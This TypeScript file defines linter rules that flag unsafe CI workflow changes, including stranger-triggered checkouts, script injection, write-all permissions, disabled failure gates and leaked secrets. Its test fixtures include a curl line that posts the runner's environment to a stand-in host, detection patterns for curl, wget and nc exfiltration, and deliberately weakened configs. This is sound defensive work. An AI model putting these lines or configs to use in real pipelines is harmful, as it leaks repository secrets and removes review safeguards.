// Flags pipelines that run a stranger's code with the rights of the repository, paste a stranger's words into a
// script, take wide permissions, or stop refusing what fails.
import { rule } from '../../../core/rule.ts'
import type { ConfigNode } from '../../../syntax/config/tree.ts'
import { aboutFile } from '../../settings/neighbours.ts'
import { setting } from '../../settings/setting.ts'
import { weakMessage } from '../../settings/setting-rule.ts'
import { like, off, on } from '../../settings/values.ts'

const HARDENING = 'https://docs.github.com/en/actions/reference/security/secure-use'
const SYNTAX = 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax'
const GITLAB = 'https://docs.gitlab.com/ci/yaml/'

const flow = (text: string): string =>
  `--- a/.github/workflows/check.yml\n+++ b/.github/workflows/check.yml\n@@ -1,4 +1,6 @@\n${text}`

const STRANGER =
  /\$\{\{[^}]{0,200}github\.(?:head_ref|event\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|pages|workflow_run|inputs|client_payload)\b[\w.*[\]]*(?:title|body|message|name|ref|label|email|head_branch|inputs\.\w+|client_payload\.[\w.]+))/
const HEAD =
  /github\.(?:event\.(?:pull_request\.head\.(?:sha|ref)|workflow_run\.head_(?:sha|branch))|head_ref)|refs\/pull\//

const EVENTS = /^(?:pull_request_target|workflow_run|issue_comment)$/

/** The workflow runs with the secrets of the repository on the event of a stranger. */
const isTrusted = aboutFile((leaf) => {
  if (EVENTS.test(leaf.value ?? '')) return true
  for (let at: ConfigNode | null = leaf; at !== null; at = at.parent) if (EVENTS.test(at.key)) return true
  return false
})
const checksOutHead = aboutFile(
  ({ key, value }) => (key === 'ref' || key === 'run' || key === 'repository') && HEAD.test(value ?? ''),
)

export const strangersCode = rule({
  id: 'code.ci.strangers_code',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
  message: weakMessage,
  fix: 'Use pull_request, without secrets; or do not check out the head of the pull request.',
  settings: [
    setting({
      path: 'ref | repository | run',
      in: ['github'],
      weak: like(HEAD),
      where: isTrusted,
      means: "code of a stranger's pull request runs with the secrets and the token of this repository",
      source: HARDENING,
    }),
    setting({
      path: 'pull_request_target | pull_request_target.** | on',
      block: true,
      in: ['github'],
      weak: like(/^$|pull_request_target|opened|synchronize|main|master/),
      where: (place) => isTrusted(place) && checksOutHead(place),
      means: "code of a stranger's pull request runs with the secrets and the token of this repository",
      source: HARDENING,
    }),
  ],
  fires: [
    flow(
      ' on: pull_request_target\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n+        with:\n+          ref: ${{ github.event.pull_request.head.sha }}\n',
    ),
    flow(
      ' on:\n-  pull_request:\n+  pull_request_target:\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n         with:\n           ref: ${{ github.event.pull_request.head.sha }}\n',
    ),
  ],
  quiet: [
    flow(
      ' on: pull_request\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n+        with:\n+          ref: ${{ github.event.pull_request.head.sha }}\n',
    ),
    flow(' on:\n+  pull_request_target:\n jobs:\n   a:\n     steps:\n       - uses: actions/labeler@v5\n'),
  ],
})

export const pastedWords = rule({
  id: 'code.ci.pasted_words',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
  message: weakMessage,
  fix: 'Pass the value through env and quote the variable in the script.',
  settings: [
    setting({
      path: 'run | with.script | script',
      in: ['github'],
      weak: like(STRANGER),
      means:
        'the text is put into the script before the shell reads it, so whoever wrote it chooses the commands',
      source: HARDENING,
    }),
  ],
  fires: [
    flow(' on: issues\n jobs:\n   a:\n     steps:\n+      - run: echo "${{ github.event.issue.title }}"\n'),
    flow(
      ' on: pull_request\n jobs:\n   a:\n     steps:\n+      - run: |\n+          git log ${{ github.head_ref }}\n',
    ),
  ],
  quiet: [
    flow(
      ' on: issues\n jobs:\n   a:\n     steps:\n+      - run: echo "$TITLE"\n+        env:\n+          TITLE: ${{ github.event.issue.title }}\n',
    ),
    flow(' on: push\n jobs:\n   a:\n     steps:\n+      - run: echo "${{ github.sha }}"\n'),
  ],
})

export const widePipeline = rule({
  id: 'code.ci.wide_rights',
  severity: 'high',
  category: 'security',
  evidence: 'A',
  source: SYNTAX,
  message: weakMessage,
  fix: 'Name the permissions that the job needs, on the job.',
  settings: [
    setting({
      path: 'permissions',
      in: ['github'],
      weak: like(/^write-all$/),
      safe: like(/^(?:read-all|\{\}|)$/),
      means: 'every step may change code, releases and packages',
      source: SYNTAX,
    }),
    setting({
      path: 'permissions.contents | permissions.packages | permissions.id-token | permissions.actions | permissions.deployments | permissions.security-events',
      in: ['github'],
      weak: like(/^write$/),
      safe: like(/^(?:read|none)$/),
      means: 'every step of the job may use this right, third-party actions included',
      source: SYNTAX,
    }),
    setting({
      path: 'ACTIONS_ALLOW_UNSECURE_COMMANDS',
      weak: on,
      means: 'whatever a step prints can set variables and paths of later steps',
      source: HARDENING,
    }),
    setting({
      path: 'with.persist-credentials',
      in: ['github'],
      weak: on,
      required: true,
      means: 'the token stays in the working copy, where later steps and artifacts can read it',
      source: HARDENING,
    }),
    setting({
      path: 'secrets',
      in: ['github'],
      weak: like(/^inherit$/),
      means: 'the called workflow gets every secret',
      source: SYNTAX,
    }),
  ],
  fires: [
    flow(' on: push\n-permissions: read-all\n+permissions: write-all\n'),
    flow(' on: push\n permissions:\n-  contents: read\n+  contents: write\n'),
    flow(' on: push\n env:\n+  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n'),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n         with:\n-          persist-credentials: false\n',
    ),
    flow(' on: push\n jobs:\n   a:\n     uses: ./.github/workflows/b.yml\n+    secrets: inherit\n'),
  ],
  quiet: [
    flow(' on: push\n-permissions: write-all\n+permissions:\n+  contents: read\n'),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n+        with:\n+          persist-credentials: false\n',
    ),
  ],
})

export const gateOff = rule({
  id: 'code.ci.gate_off',
  severity: 'high',
  category: 'missing_check',
  evidence: 'B',
  source: SYNTAX,
  message: weakMessage,
  fix: 'Let the check fail the pipeline; repair it, or remove it with a reason.',
  settings: [
    setting({
      path: 'continue-on-error',
      in: ['github'],
      weak: on,
      means: 'a failing step no longer stops the change',
      source: SYNTAX,
    }),
    setting({
      path: 'allow_failure',
      in: ['gitlab'],
      weak: on,
      means: 'a failing job no longer stops the change',
      source: GITLAB,
    }),
    setting({
      path: 'jobs.*.if | steps.if',
      in: ['github'],
      weak: like(/^(?:\$\{\{\s*)?false\b/),
      means: 'the step never runs',
      source: SYNTAX,
    }),
    setting({
      path: 'with.exit-code',
      weak: off,
      means: 'the scanner reports and lets the change pass',
      source: 'https://github.com/aquasecurity/trivy-action#inputs',
    }),
    setting({
      path: 'fail-on-severity | with.fail-on-severity',
      weak: like(/^(?:critical|none)$/),
      means: 'findings below this severity pass',
      source: 'https://github.com/actions/dependency-review-action#configuration-options',
    }),
    setting({
      path: 'jobs.*.needs',
      in: ['github'],
      weak: like(/^(?!)/),
      required: true,
      means: 'the job no longer waits for the checks that it needed',
      source: SYNTAX,
    }),
    setting({
      path: 'jobs.*.environment | jobs.*.environment.name',
      in: ['github'],
      weak: like(/^(?!)/),
      required: true,
      means: 'the approval rules of the environment no longer hold the job',
      source: 'https://docs.github.com/en/actions/concepts/workflows-and-actions/deployment-environments',
    }),
    setting({
      path: 'fail_ci_if_error | with.fail_ci_if_error',
      weak: off,
      means: 'a failing check no longer stops the change',
      source: 'https://github.com/codecov/codecov-action#arguments',
    }),
    setting({
      path: 'when',
      in: ['gitlab'],
      weak: like(/^(?:never|always|on_success)$/),
      where: ({ names }) =>
        !names.includes('rules') && !names.includes('artifacts') && !names.includes('cache'),
      means: 'the job no longer waits for a person, or never runs',
      source: GITLAB,
    }),
    setting({
      path: 'required_status_checks.** | required_pull_request_reviews.** | enforce_admins',
      weak: off,
      required: true,
      means: 'a change reaches the branch without this check',
      source: 'https://docs.github.com/en/rest/branches/branch-protection',
    }),
  ],
  fires: [
    flow(' on: push\n jobs:\n   a:\n     steps:\n       - run: npm test\n+        continue-on-error: true\n'),
    '--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml\n@@ -1,4 +1,5 @@\n unit:\n   script:\n     - make test\n+  allow_failure: true\n',
    flow(' on: push\n jobs:\n   audit:\n+    if: false\n     runs-on: ubuntu-24.04\n'),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - uses: aquasecurity/trivy-action@v0\n         with:\n-          exit-code: 1\n+          exit-code: 0\n',
    ),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - uses: actions/dependency-review-action@v4\n         with:\n-          fail-on-severity: moderate\n+          fail-on-severity: critical\n',
    ),
    flow(' on: push\n jobs:\n   release:\n-    needs: [test]\n     runs-on: ubuntu-24.04\n'),
    flow(' on: push\n jobs:\n   release:\n-    environment: production\n     runs-on: ubuntu-24.04\n'),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - uses: codecov/codecov-action@v4\n         with:\n-          fail_ci_if_error: true\n+          fail_ci_if_error: false\n',
    ),
    '--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml\n@@ -1,4 +1,4 @@\n deploy:\n   script:\n     - make deploy\n-  when: manual\n+  when: on_success\n',
    '--- a/repo.yaml\n+++ b/repo.yaml\n@@ -1,3 +1,3 @@\n main:\n-  enforce_admins: true\n+  enforce_admins: false\n',
  ],
  quiet: [
    flow(' on: push\n jobs:\n   a:\n     steps:\n       - run: npm test\n-        continue-on-error: true\n'),
    flow(' on: push\n jobs:\n   release:\n+    needs: [test]\n     runs-on: ubuntu-24.04\n'),
  ],
})

export const secretShown = rule({
  id: 'code.ci.secret_shown',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: HARDENING,
  message: weakMessage,
  fix: 'Give the secret to the one step that needs it, through env, and send it to its own service only.',
  settings: [
    setting({
      path: 'run | script | before_script',
      in: ['github', 'gitlab', 'circle'],
      weak: like(
        /\b(?:echo|printf|print|cat|tee)\b[^\n|>]{0,200}\$\{\{\s*secrets\.|\bprintenv\s*(?:$|\n|\|)|\benv\s*\|\s*(?:curl|nc|base64|tee)/,
      ),
      means: 'the secret is printed, where masking does not cover every form of it',
      source: HARDENING,
    }),
    setting({
      path: 'run | env.* | with.*',
      in: ['github'],
      weak: like(/toJSON\(\s*secrets\s*\)/i),
      means: 'every secret of the repository is in one value',
      source: HARDENING,
    }),
    setting({
      path: 'run | script',
      in: ['github', 'gitlab', 'circle'],
      weak: like(
        /\b(?:curl|wget|nc|ncat)\b[^\n]{0,200}\$\((?:env|printenv|set|cat [^)\n]{0,60}(?:secret|token|\.env|id_rsa|credentials))/,
      ),
      means: 'the environment of the runner, secrets included, is sent away',
      source: HARDENING,
    }),
  ],
  fires: [
    flow(' on: push\n jobs:\n   a:\n     steps:\n+      - run: echo "key is ${{ secrets.API_KEY }}"\n'),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - run: ./publish\n+        env:\n+          ALL: ${{ toJSON(secrets) }}\n',
    ),
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n+      - run: curl -d "$(env)" https://collect.example.net/in\n',
    ),
  ],
  quiet: [
    flow(
      ' on: push\n jobs:\n   a:\n     steps:\n       - run: ./publish\n+        env:\n+          API_KEY: ${{ secrets.API_KEY }}\n',
    ),
    flow(' on: push\n jobs:\n   a:\n     steps:\n+      - run: echo "done"\n'),
  ],
})
